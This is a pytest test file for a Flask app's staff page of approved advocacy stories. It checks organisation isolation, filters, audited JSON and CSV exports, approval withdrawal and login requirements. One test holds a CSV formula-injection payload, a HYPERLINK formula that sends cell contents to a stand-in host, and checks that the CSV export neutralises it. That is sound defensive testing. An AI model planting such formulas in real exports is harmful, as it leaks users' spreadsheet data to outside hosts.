"""The published stories page: every staff member of the organisation, advocates included, reads
its approved, redacted stories (never a draft, never another organisation's), filters them and
downloads them; withdrawing an approval takes a story off the page and out of every later file."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
import uuid

import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import select
from sqlalchemy.orm import Session

from reporter.audit.models import AuditEntry
from reporter.casework.models import AdvocacyStory
from reporter.coding.service import Act
from tests.conftest import Network
from tests.factories import make_story
from tests.staff import code, form_token, login, make_member

MARCH = dt.date(2025, 3, 10)
MAY = dt.date(2025, 5, 20)
# Brazil's: one of March (police extortion, in Brazil, from the report); one of May (forced
# labour, coded in Colombia); a draft. Colombia's: one approved story.
POLICE = "POLICESTORY Two officers stopped her and asked for money."
LABOUR = "LABOURSTORY He was made to work in the centre without pay."
DRAFT = "DRAFTCANARY Not approved yet."
OTHER = "OTHERORGCANARY A story of Colombia's organisation."


@pytest.fixture
def stories(app: Flask, network: Network, db: Session) -> dict[str, uuid.UUID]:
    """The stories above; returns the report of each of Brazil's, by its text."""
    brazil, key = network.brazil, network.key(network.brazil)
    police = make_story(db, brazil, key, POLICE, approved_on=MARCH)
    labour = make_story(
        db,
        brazil,
        key,
        LABOUR,
        approved_on=MAY,
        acts=[Act(violation_type="forced_labour", country="CO")],
    )
    make_story(db, brazil, key, DRAFT, approved=False)
    colombia = network.colombia
    make_story(db, colombia, network.key(colombia), OTHER, approved_on=MAY, country="CO")
    db.commit()
    return {POLICE: police.report.id, LABOUR: labour.report.id}


def _advocate(app: Flask, network: Network) -> FlaskClient:
    make_member(app, network.brazil, network.key(network.brazil), "adv", "advocate")
    client = app.test_client()
    assert login(client, "adv").status_code == 302
    return client


def _texts(page: str) -> list[str]:
    """The stories' texts, in the page's order."""
    return re.findall(r'<div class="narrative">(.*?)</div>', page, re.S)


def test_an_advocate_reads_the_approved_stories_of_their_organisation_newest_first(
    app: Flask, network: Network, stories: dict[str, uuid.UUID]
) -> None:
    client = _advocate(app, network)
    assert 'href="/staff/stories"' in client.get("/staff/").get_data(as_text=True)
    response = client.get("/staff/stories")
    assert response.status_code == 200
    page = response.get_data(as_text=True)
    assert _texts(page) == [LABOUR, POLICE]
    assert "DRAFTCANARY" not in page and "OTHERORGCANARY" not in page
    # Labels in the page's language: the country's name, the violation, the month.
    assert "<h2>Colombia</h2>" in page and "<h2>Brazil</h2>" in page
    assert "Police demanded money, drugs or favours" in page and "Forced work while held" in page
    assert "Mar 2025" in page and "May 2025" in page
    assert "2 stories." in page


def test_the_page_shows_the_labels_in_the_members_language(
    app: Flask, network: Network, stories: dict[str, uuid.UUID], db: Session
) -> None:
    from reporter.accounts.models import StaffMember

    client = _advocate(app, network)
    member = db.scalars(select(StaffMember).where(StaffMember.username == "adv")).one()
    member.language = "es"
    db.commit()
    page = client.get("/staff/stories").get_data(as_text=True)
    assert "<h2>Brasil</h2>" in page
    assert "<h2>Brazil</h2>" not in page


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ("countries=CO", [LABOUR]),
        ("countries=BR", [POLICE]),
        ("countries=BR&countries=CO", [LABOUR, POLICE]),
        ("groups=detention_coercive_treatment", [LABOUR]),
        ("groups=policing", [POLICE]),
        ("groups=policing&groups=detention_coercive_treatment", [LABOUR, POLICE]),
        ("first_month=2025-04", [LABOUR]),
        ("last_month=2025-04", [POLICE]),
        ("first_month=2025-03&last_month=2025-03", [POLICE]),
        ("first_month=2025-05&last_month=2025-05", [LABOUR]),
        ("countries=CO&groups=policing", []),
    ],
)
def test_the_filters_choose_the_stories(
    app: Flask, network: Network, stories: dict[str, uuid.UUID], query: str, expected: list[str]
) -> None:
    client = _advocate(app, network)
    page = client.get(f"/staff/stories?{query}").get_data(as_text=True)
    assert _texts(page) == expected
    exported = json.loads(client.get(f"/staff/stories/export.json?{query}").get_data(as_text=True))
    assert [story["text"] for story in exported["stories"]] == expected
    if expected:
        # The downloads carry the page's choices: a bookmark and a file show the same stories.
        assert f'href="/staff/stories/export.csv?{query.replace("&", "&amp;")}"' in page
    else:
        assert "No published story matches these choices." in page


def test_empty_states_and_a_wrong_month_speak_plainly(app: Flask, network: Network) -> None:
    client = _advocate(app, network)
    page = client.get("/staff/stories").get_data(as_text=True)
    assert "Your organisation has not published any story yet." in page
    wrong = client.get("/staff/stories?first_month=March")
    assert wrong.status_code == 400
    page = wrong.get_data(as_text=True)
    assert "<title>Error:" in page
    assert "Write a month as year and month, for example 2025-03." in page
    assert 'aria-invalid="true"' in page
    assert client.get("/staff/stories/export.csv?last_month=May").status_code == 400


def _csv_rows(body: str) -> list[list[str]]:
    """The story lines of the CSV file, after its `#` metadata lines and its header."""
    rows = list(csv.reader(io.StringIO(body)))
    header = rows.index(["approved_month", "country", "violation_types", "text"])
    assert all(row[0].startswith("#") for row in rows[:header])
    return rows[header + 1 :]


def test_the_downloads_give_back_the_same_texts_and_are_audited(
    app: Flask, network: Network, db: Session
) -> None:
    awkward = 'She said "no, not today", then:\nthey came back; twice.\r\nÁ ñ — 女'
    brazil, key = network.brazil, network.key(network.brazil)
    make_story(db, brazil, key, POLICE, approved_on=MARCH)
    make_story(db, brazil, key, awkward, approved_on=MAY)
    db.commit()
    client = _advocate(app, network)

    download = client.get("/staff/stories/export.json?countries=BR")
    assert download.status_code == 200 and download.mimetype == "application/json"
    disposition = download.headers["Content-Disposition"]
    assert disposition.startswith("attachment;") and "stories-brasil-" in disposition
    document = json.loads(download.get_data(as_text=True))
    assert document["metadata"] == {
        "organisation": "Rede Brasil",
        "filters": {
            "countries": ["BR"],
            "violation_types": [],
            "first_month": None,
            "last_month": None,
        },
        "generated_on": dt.date.today().isoformat(),
        "count": 2,
    }
    assert document["stories"] == [
        {
            "text": awkward,
            "country": "BR",
            "violation_types": ["extortion_bribe"],
            "approved_month": "2025-05",
        },
        {
            "text": POLICE,
            "country": "BR",
            "violation_types": ["extortion_bribe"],
            "approved_month": "2025-03",
        },
    ]

    csv_file = client.get("/staff/stories/export.csv?countries=BR")
    assert csv_file.status_code == 200 and csv_file.mimetype == "text/csv"
    assert csv_file.headers["Content-Disposition"].startswith("attachment;")
    body = csv_file.get_data(as_text=True)
    assert "# organisation: Rede Brasil" in body and "# count: 2" in body
    assert _csv_rows(body) == [
        ["2025-05", "BR", "extortion_bribe", awkward],
        ["2025-03", "BR", "extortion_bribe", POLICE],
    ]
    # Every field is quoted text.
    assert body.splitlines()[-1] == f'"2025-03","BR","extortion_bribe","{POLICE}"'

    db.expire_all()
    entries = db.scalars(
        select(AuditEntry).where(AuditEntry.action == "stories_exported").order_by(AuditEntry.id)
    ).all()
    assert [json.loads(entry.details) for entry in entries] == [
        {"format": "json", "count": 2},
        {"format": "csv", "count": 2},
    ]
    assert all("POLICESTORY" not in entry.details for entry in entries)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_story_a_spreadsheet_would_read_as_a_formula_is_neutralised_in_the_csv(
    app: Flask, network: Network, db: Session, start: str
) -> None:
    text = f'{start}HYPERLINK("http://example.org/?x="&A1,"open")'
    make_story(db, network.brazil, network.key(network.brazil), text, approved_on=MARCH)
    db.commit()
    client = _advocate(app, network)
    rows = _csv_rows(client.get("/staff/stories/export.csv").get_data(as_text=True))
    assert rows == [["2025-03", "BR", "extortion_bribe", "'" + text]]
    # The JSON keeps the text as it was approved.
    document = json.loads(client.get("/staff/stories/export.json").get_data(as_text=True))
    assert document["stories"][0]["text"] == text


def test_withdrawing_the_approval_takes_the_story_off_the_page_and_out_of_the_next_export(
    app: Flask, network: Network, stories: dict[str, uuid.UUID], db: Session
) -> None:
    advocate = _advocate(app, network)
    make_member(app, network.brazil, network.key(network.brazil), "mod", "moderator")
    moderator = app.test_client()
    assert login(moderator, "mod", totp=code(1)).status_code == 302
    report_id = stories[POLICE]
    url = f"/staff/cases/{report_id}"
    before = json.loads(advocate.get("/staff/stories/export.json").get_data(as_text=True))
    assert [story["text"] for story in before["stories"]] == [LABOUR, POLICE]

    case_page = moderator.get(url).get_data(as_text=True)
    assert "Withdraw the approval" in case_page and "Approve the story" not in case_page
    token = form_token(moderator, url)
    response = moderator.post(f"{url}/story/withdraw", data={"csrf_token": token})
    assert response.status_code == 302 and response.headers["Location"].endswith("#story")

    db.expire_all()
    row = db.get(AdvocacyStory, (report_id, network.brazil.id))
    assert row is not None
    assert (row.approved_by_id, row.published, row.published_key_version) == (None, None, None)
    case_page = moderator.get(url).get_data(as_text=True)
    assert "Approve the story" in case_page and "Withdraw the approval" not in case_page
    assert _texts(advocate.get("/staff/stories").get_data(as_text=True)) == [LABOUR]
    after = json.loads(advocate.get("/staff/stories/export.json").get_data(as_text=True))
    assert after["metadata"]["count"] == 1
    assert [story["text"] for story in after["stories"]] == [LABOUR]
    assert _csv_rows(advocate.get("/staff/stories/export.csv").get_data(as_text=True)) == [
        ["2025-05", "CO", "forced_labour", LABOUR]
    ]
    withdrawn = db.scalars(select(AuditEntry).where(AuditEntry.action == "story_withdrawn")).all()
    assert [entry.target for entry in withdrawn] == [str(report_id)]

    # Pressed twice: nothing more to withdraw, and nothing more in the audit log.
    again = moderator.post(f"{url}/story/withdraw", data={"csrf_token": token})
    assert again.status_code == 302
    db.expire_all()
    assert (
        len(db.scalars(select(AuditEntry).where(AuditEntry.action == "story_withdrawn")).all()) == 1
    )

    # Approved again by someone other than its author, it is back, approved this month.
    approve = moderator.post(f"{url}/story/approve", data={"csrf_token": token})
    assert approve.status_code == 302
    assert _texts(advocate.get("/staff/stories").get_data(as_text=True)) == [POLICE, LABOUR]


def test_the_withdrawal_needs_a_token_and_a_role_that_may_approve(
    app: Flask, network: Network, stories: dict[str, uuid.UUID], db: Session
) -> None:
    report_id = stories[POLICE]
    url = f"/staff/cases/{report_id}"
    make_member(app, network.brazil, network.key(network.brazil), "mod", "moderator")
    moderator = app.test_client()
    assert login(moderator, "mod").status_code == 302
    refused = moderator.post(f"{url}/story/withdraw", data={})
    assert refused.status_code == 400
    advocate = _advocate(app, network)
    # The advocate's own token, from a page they may open: the role, not the token, refuses.
    token = form_token(advocate, "/staff/")
    assert advocate.post(f"{url}/story/withdraw", data={"csrf_token": token}).status_code == 403
    assert advocate.get(url).status_code == 403
    db.expire_all()
    row = db.get(AdvocacyStory, (report_id, network.brazil.id))
    assert row is not None and row.approved_by_id is not None and row.published is not None
    assert _texts(advocate.get("/staff/stories").get_data(as_text=True)) == [LABOUR, POLICE]
    assert db.scalars(select(AuditEntry).where(AuditEntry.action == "story_withdrawn")).all() == []


@pytest.mark.parametrize(
    "path", ["/staff/stories", "/staff/stories/export.json", "/staff/stories/export.csv"]
)
def test_the_stories_need_a_login(
    app: Flask, network: Network, stories: dict[str, uuid.UUID], path: str
) -> None:
    response = app.test_client().get(path)
    assert response.status_code == 302 and "/staff/login" in response.headers["Location"]
    assert "POLICESTORY" not in response.get_data(as_text=True)
